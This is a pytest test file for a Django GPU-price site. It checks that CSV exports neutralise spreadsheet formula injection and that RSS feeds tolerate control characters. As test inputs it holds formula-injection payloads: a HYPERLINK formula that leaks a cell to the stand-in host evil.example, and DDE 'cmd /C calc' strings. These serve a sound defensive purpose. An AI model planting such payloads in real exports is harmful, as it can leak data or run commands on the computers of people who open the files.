"""Text that admins (or eBay) wrote reaches exports and feeds: a CSV cell never reads as a formula
in a spreadsheet, and a control character never breaks a feed."""

import csv
import io
from decimal import Decimal

import feedparser
import pytest
from django.urls import reverse
from django.utils import timezone

from metrics.models import DailyPrice, Scope
from metrics.ranking import recompute_rankings
from tests.factories import make_gpu, make_listing

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(response):
    text = response.content.decode()
    body = text.split("\r\n", 2)[2] if text.startswith("#") else text  # the licence lines
    return list(csv.reader(io.StringIO(body, newline="")))


@pytest.mark.parametrize(
    "label",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the best price")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_no_cell_of_the_cards_export_reads_as_a_formula(client, label):
    make_gpu(slug="nvidia-a40", label=label, manufacturer=label[:20])  # a 20-character column

    rows = csv_rows(client.get(reverse("metrics:data-gpus-csv")))

    card = next(row for row in rows if row[0] == "nvidia-a40")
    assert (card[1], card[2]) == ("'" + label, "'" + label[:20])  # shown as text, nothing lost
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_price_history_csv_cells_are_never_formulas(client):
    gpu = make_gpu(slug="nvidia-a40")
    DailyPrice.objects.create(
        gpu=gpu,
        scope=Scope.USED,
        day=timezone.localdate(),
        headline_price=Decimal("950"),
        lowest_price=Decimal("900"),
        listing_count=3,
        computed_at=timezone.now(),
    )

    rows = csv_rows(client.get(reverse("metrics:price-history-csv", kwargs={"slug": gpu.slug})))

    assert len(rows) > 1
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_a_control_character_in_a_card_label_does_not_break_its_feed(client):
    gpu = make_gpu(slug="nvidia-l40s", label="NVIDIA L40S\x0b\x01 (bad paste)\ufffe")
    for price in ("1000", "1000", "1000", "1000", "1000", "800"):
        make_listing(gpu, price, first_seen_at=timezone.now())  # new: a deal in the feeds
    recompute_rankings()

    for path in (
        reverse("metrics:gpu-deals-feed", kwargs={"slug": gpu.slug}),
        reverse("metrics:deals-feed"),
    ):
        response = client.get(path)
        assert response.status_code == 200
        feed = feedparser.parse(response.content)
        assert not feed.bozo, feed.get("bozo_exception")
        assert feed.entries[0].title.startswith("NVIDIA L40S (bad paste) (used) at $800.00")
